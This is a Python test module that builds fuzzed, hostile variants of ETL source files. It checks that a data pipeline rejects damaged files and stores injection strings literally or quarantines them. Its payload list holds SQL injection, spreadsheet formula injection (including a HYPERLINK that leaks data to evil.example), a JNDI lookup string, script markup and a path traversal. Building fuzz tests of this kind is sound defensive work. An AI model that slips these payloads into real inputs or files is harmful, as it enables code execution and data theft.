"""Fuzzed variants of every source table (issue 10 §5): what an attacker or a broken exporter could deliver.

`variants(landing)` takes the generator's files (one small day of datawiz.sample_data) as the base of each
table and derives, deterministically (seeded), one file per kind of hostility:

- whole-file damage — random bytes, truncated Parquet/CSV/JSON, zero bytes, 10 000 extra columns, every
  column of a wrong type, deeply nested Parquet types (list<struct<list<…>>>), a header naming a column
  twice, JSON nested 100 000 levels deep: the file must be *rejected* with a reason (or, for extra columns,
  loaded with the drift recorded), never crash the run;
- hostile values — SQL and CSV/formula injection strings, unicode and control characters (NUL, RTL override,
  emoji, lone surrogate-like sequences), a UTF-8 BOM, a 10 MB cell, dates in year 0001 and 9999: free-text
  columns must be stored *literally* (read back byte for byte); values a rule refuses must be quarantined
  with their row and column, the row kept as delivered.

Every variant says what must happen (`expect`), so the test checks outcomes, not just "no exception".
"""

from __future__ import annotations

import datetime as dt
import io
import json
import re
from dataclasses import dataclass, field
from pathlib import Path
from typing import Literal

import numpy as np
import pyarrow as pa
import pyarrow.parquet as pq

from datawiz.core.registry import CONTRACTS, Column, LoadMode, TableContract, resolve_path
from datawiz.sample_data import generate
from tasks.clean import ROW_NUMBER, clean_table
from tasks.extract import read_raw

BASE_DATE = dt.date(2025, 11, 20)
SEED = 20251120
HUGE = 10 * 1024 * 1024  # one 10 MB cell

# Strings that must reach the warehouse as text, never as code: SQL, CSV/spreadsheet formulas, format
# strings of every driver and template engine DataWiz touches, path tricks, markup.
INJECTION = (
    "'; DROP TABLE dim_product; --",
    "Robert'); DROP TABLE etl_file_ledger;--",
    "1' OR '1'='1",
    '" OR ""="',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "%s%s%s %(password)s {0} {{7*7}} ${jndi:ldap://x/a} :name ?",
    "\\N",
    "NULL",
    "a\\\\b\\'c\\\"d",
    "<script>alert(1)</script>",
    "../../../../etc/passwd",
    "x,y;z\tw|v",
)
# Unicode and control characters (no leading/trailing whitespace: cleaning trims, by contract).
UNICODE = (
    "nul\x00inside",
    "ctl\x01\x02\x03\x1b[31mred",
    "rtl\u202eexe.txt",
    "emoji 😀👩‍👩‍👧 ok",
    "zero\u200bwidth\ufeffbom",
    "line\r\nbreak\nand\rcr",
    "ß İ ﬃ Ω 汉字 हिन्दी العربية",
    "combining e\u0301\u0301\u0301",
    "\U0010fffd plane-16",
)
PAYLOADS = INJECTION + UNICODE
EXTREME_DATES = (dt.date(1, 1, 1), dt.date(9999, 12, 31))
EXTREME_TS = (dt.datetime(1, 1, 1, 0, 0, 0), dt.datetime(9999, 12, 31, 23, 59, 59, 999999))

Expect = Literal["rejected", "loaded", "quarantined_or_rejected"]


@dataclass
class Variant:
    """One hostile file and what the pipeline must make of it."""

    kind: str
    table: str  # contract name
    path: str  # landing path (a valid name of the table, so the content is what is tested)
    data: bytes
    expect: Expect
    reason: str | None = None  # fragment of the ledger reason (rejected)
    # key value -> {column: exact value} that must be read back from the target table (loaded)
    literal: dict[str, dict[str, object]] = field(default_factory=dict)
    # row number -> (column, exact delivered value) that must be quarantined (loaded)
    quarantined: dict[int, tuple[str, object]] = field(default_factory=dict)
    drift: int = 0  # extra columns the ledger must list

    @property
    def id(self) -> str:
        return f"{self.table}-{self.kind}"


# ------------------------------------------------------------------------------------------ base tables
def base_tables(landing: Path) -> dict[str, tuple[str, pa.Table]]:
    """One generated file per table, typed as the contract says: name -> (path, table)."""
    generate(landing, days=1, fis_rows_per_day=20, end_date=BASE_DATE)
    out: dict[str, tuple[str, pa.Table]] = {}
    for path in sorted(p for p in landing.rglob("*") if p.is_file()):
        rel = path.relative_to(landing).as_posix()
        ref = resolve_path(rel)
        if ref is None or ref.contract.name in out or ref.contract.load_mode is LoadMode.CONSTANTS:
            continue
        cleaned = clean_table(read_raw(path, ref), ref.contract, rel)
        out[ref.contract.name] = (rel, cleaned.table.drop_columns([ROW_NUMBER]))
    return out


def _parquet(table: pa.Table) -> bytes:
    sink = io.BytesIO()
    pq.write_table(table, sink)
    return sink.getvalue()


def _csv(table: pa.Table, bom: bool = False) -> bytes:
    """RFC 4180 CSV of any table (every value quoted, so commas, quotes and line breaks survive)."""
    lines = [",".join(table.column_names)]
    for row in table.to_pylist():
        cells = []
        for v in row.values():
            if v is None:
                cells.append("")
            else:
                text = v.strftime("%Y-%m-%d %H:%M:%S") if isinstance(v, dt.datetime) else str(v).lower() \
                    if isinstance(v, bool) else str(v)
                cells.append('"' + text.replace('"', '""') + '"')
        lines.append(",".join(cells))
    return (b"\xef\xbb\xbf" if bom else b"") + ("\n".join(lines) + "\n").encode("utf-8")


def _path(contract: TableContract, n: int, ext: str) -> str:
    """A valid landing path of the table, distinct per variant: dims by date (in order), facts by part."""
    if contract.load_mode is LoadMode.SNAPSHOT_UPSERT:
        day = BASE_DATE + dt.timedelta(days=n)
        return f"dimensions/{contract.name}/{contract.name}_{day:%Y%m%d}.{ext}"
    d = BASE_DATE
    return f"facts/{contract.name}/{d:%Y/%m/%d}/{contract.name}_{d:%Y%m%d}_{n + 100:03d}.{ext}"


def free_text(contract: TableContract) -> list[Column]:
    """Columns that take any text (no pattern, no list of allowed values, not a code)."""
    return [c for c in contract.columns if c.type == "str" and not (c.pattern or c.allowed or c.is_code)]


def text_target(contract: TableContract) -> list[Column]:
    """Where hostile strings go: free text (stored) or, for facts which have none, code columns (quarantined)."""
    return free_text(contract) or [c for c in contract.columns if c.type == "str" and not c.key]


def _grow(table: pa.Table, contract: TableContract, rows: int) -> pa.Table:
    """At least `rows` rows: copies of the base rows under fresh keys (facts: line numbers, dims: codes)."""
    if table.num_rows >= rows:
        return table
    key = "line_no" if "line_no" in table.column_names else contract.key[0]
    copies = [table]
    for i in range(1, -(-rows // table.num_rows)):
        if key == "line_no":
            fresh = pa.array(np.asarray(table["line_no"]) + 1000 * i, pa.int64())
        else:  # D00012 -> D91012: same pattern and width, never one of the generated codes (< 9xxxx)
            fresh = pa.array([re.sub(r"\d+", lambda m, i=i: f"9{i}{m.group()[2:]}", v)
                              for v in table[key].to_pylist()], pa.string())
        copies.append(table.set_column(table.schema.get_field_index(key), key, fresh))
    return pa.concat_tables(copies)


def _with_values(table: pa.Table, column: str, values: dict[int, object]) -> pa.Table:
    col = table[column].to_pylist()
    for i, v in values.items():
        col[i] = v
    idx = table.schema.get_field_index(column)
    typ = table.schema.field(column).type
    return table.set_column(idx, column, pa.array(col, typ))


def _key(contract: TableContract, table: pa.Table, i: int) -> str:
    return "|".join(str(table[k][i].as_py()) for k in contract.key)


# ------------------------------------------------------------------------------------------ variants
def file_variants(name: str, path: str, table: pa.Table, rng: np.random.Generator) -> list[Variant]:
    """Whole-file damage of one table."""
    contract = CONTRACTS[name]
    good = _parquet(table)
    out = [
        Variant("random_bytes", name, _path(contract, 1, "parquet"), rng.bytes(4096), "rejected", "unreadable Parquet"),
        Variant("random_bytes_csv", name, _path(contract, 2, "csv"), b"sku\n" + rng.bytes(4096), "rejected", None),
        Variant("truncated_parquet", name, _path(contract, 3, "parquet"), good[: len(good) // 2], "rejected",
                "unreadable Parquet"),
        # Cut inside the last row's last field: that row fails (quarantined, row + column) or the file is rejected.
        Variant("truncated_csv", name, _path(contract, 4, "csv"), _csv(table)[:-7], "quarantined_or_rejected",
                quarantined={table.num_rows: (contract.columns[-1].name, None)}),
        Variant("zero_bytes", name, _path(contract, 5, "parquet"), b"", "rejected", "file is empty"),
        Variant("duplicate_column", name, _path(contract, 6, "csv"),
                _csv(table.append_column(table.column_names[0].upper(), table.column(0))), "rejected",
                "appears twice"),
    ]
    # Every column of the wrong type: strings where numbers/dates belong, numbers where text belongs.
    wrong = pa.table({
        c.name: pa.array([f"not-a-{c.type}-{i}" for i in range(table.num_rows)]) if c.type != "str"
        else pa.array(np.arange(table.num_rows, dtype=np.float64) + 0.5)
        for c in contract.columns
    })
    out.append(Variant("wrong_types", name, _path(contract, 7, "parquet"), _parquet(wrong), "rejected",
                       "above max_reject_ratio"))
    # Deeply nested Parquet types in every column: list<struct<list<struct<...>>>> 20 levels deep.
    nested: pa.Array = pa.array(range(table.num_rows), pa.int64())
    for level in range(20):
        nested = pa.StructArray.from_arrays([nested], [f"l{level}"]) if level % 2 else \
            pa.ListArray.from_arrays(pa.array(np.arange(table.num_rows + 1, dtype=np.int32)), nested)
    deep = pa.table({c.name: nested for c in contract.columns})
    out.append(Variant("nested_types", name, _path(contract, 8, "parquet"), _parquet(deep), "rejected",
                       "above max_reject_ratio"))
    # 10 000 extra columns: schema drift, recorded and not loaded.
    extra = {f"extra_{i:05d}": pa.nulls(table.num_rows, pa.int8()) for i in range(10_000)}
    wide = pa.table({**{n: table[n] for n in table.column_names}, **extra})
    out.append(Variant("ten_k_columns", name, _path(contract, 9, "parquet"), _parquet(wide), "loaded",
                       drift=10_000))
    return out


def value_variants(name: str, path: str, table: pa.Table) -> list[Variant]:
    """Hostile values in otherwise good files."""
    contract = CONTRACTS[name]
    out: list[Variant] = []
    targets = text_target(contract)
    stored = bool(free_text(contract))  # dims store the text; facts quarantine it (codes have patterns)
    n = len(PAYLOADS)
    # Facts: hostile rows stay under the 5 % reject ratio; dims: one row per payload is enough.
    grown = _grow(table, contract, 25 * n if not stored else n)
    hostile = grown
    literal: dict[str, dict[str, object]] = {}
    quarantined: dict[int, tuple[str, object]] = {}
    for i, payload in enumerate(PAYLOADS):
        col = targets[i % len(targets)].name
        hostile = _with_values(hostile, col, {i: payload})
        if stored:
            literal.setdefault(_key(contract, hostile, i), {})[col] = payload
        else:
            quarantined[i + 1] = (col, payload)
    for fmt in ("parquet", "csv"):
        data = _parquet(hostile) if fmt == "parquet" else _csv(hostile, bom=True)
        out.append(Variant(f"injection_unicode_{fmt}", name, _path(contract, 10 if fmt == "parquet" else 11, fmt),
                           data, "loaded", literal=literal, quarantined=quarantined))
    # A 10 MB cell: wider than any warehouse column, so a rule must quarantine it (row + column).
    col = targets[0].name
    big = _grow(table, contract, 40)
    huge = "H" * (HUGE - 10) + "=cmd|'/C'"
    out.append(Variant("huge_string", name, _path(contract, 12, "parquet"), _parquet(_with_values(big, col, {0: huge})),
                       "loaded", quarantined={1: (col, huge)}))
    # Dates at the ends of the calendar: stored exactly where the contract allows them, else quarantined.
    dated = _grow(table, contract, 60)
    literal_dates: dict[str, dict[str, object]] = {}
    quarantined_dates: dict[int, tuple[str, object]] = {}
    row = 0
    for c in contract.columns:
        if c.type not in ("date", "ts"):
            continue
        for value in (EXTREME_DATES if c.type == "date" else EXTREME_TS):
            dated = _with_values(dated, c.name, {row: value})
            if c.name == contract.date_column:  # must match the file's date
                quarantined_dates[row + 1] = (c.name, value)
            else:
                literal_dates.setdefault(_key(contract, dated, row), {})[c.name] = value
            row += 1
    out.append(Variant("extreme_dates", name, _path(contract, 13, "parquet"), _parquet(dated), "loaded",
                       literal=literal_dates, quarantined=quarantined_dates))
    return out


def constants_variants(rng: np.random.Generator) -> list[Variant]:
    """business_constants.json: damaged documents and hostile values."""
    path = "config/business_constants.json"
    good = {"min_productive_bill_value": 100.0, "focus_brands": ["A"], "target_lines_per_bill": 3.0}
    hostile = {**good, "focus_brands": list(PAYLOADS), "note": "=cmd|' /C calc'!A0"}
    deep = "[" * 100_000 + "]" * 100_000
    return [
        Variant("random_bytes", "business_constants", path, rng.bytes(2048), "rejected", "not valid JSON"),
        Variant("truncated", "business_constants", path, json.dumps({"as_of": "2025-11-20", "constants": good})
                .encode()[:-9], "rejected", "not valid JSON"),
        Variant("wrong_types", "business_constants", path, json.dumps({"as_of": "2025-11-20", "constants": [1, 2]})
                .encode(), "rejected", "expected {"),
        Variant("deeply_nested", "business_constants", path,
                ('{"as_of": "2025-11-20", "constants": {"x": ' + deep + "}}").encode(), "rejected", None),
        Variant("bad_date", "business_constants", path, json.dumps({"as_of": "0000-13-45", "constants": good})
                .encode(), "rejected", None),
        Variant("long_name", "business_constants", path, json.dumps({"as_of": "2025-11-20", "constants": {
            **good, "n" * 300: 1}}).encode(), "rejected", "longer than 128 bytes"),
        Variant("huge_value", "business_constants", path, json.dumps({"as_of": "2025-11-20", "constants": {
            **good, "note": "=cmd" + "x" * HUGE}}).encode(), "rejected", "value longer than"),
        Variant("injection_unicode", "business_constants", path,
                b"\xef\xbb\xbf" + json.dumps({"as_of": "2025-11-20", "constants": hostile}).encode(), "loaded",
                literal={"focus_brands": {"value": json.dumps(list(PAYLOADS), sort_keys=True)},
                         "note": {"value": json.dumps("=cmd|' /C calc'!A0")}}),
    ]


def variants(landing: Path) -> list[Variant]:
    """Every fuzzed variant of every source table, in a loadable order (dimension snapshots by date)."""
    rng = np.random.default_rng(SEED)
    out: list[Variant] = []
    for name, (path, table) in base_tables(landing).items():
        out += file_variants(name, path, table, rng)
        out += value_variants(name, path, table)
    out += constants_variants(rng)
    return sorted(out, key=lambda v: (v.table, v.path))
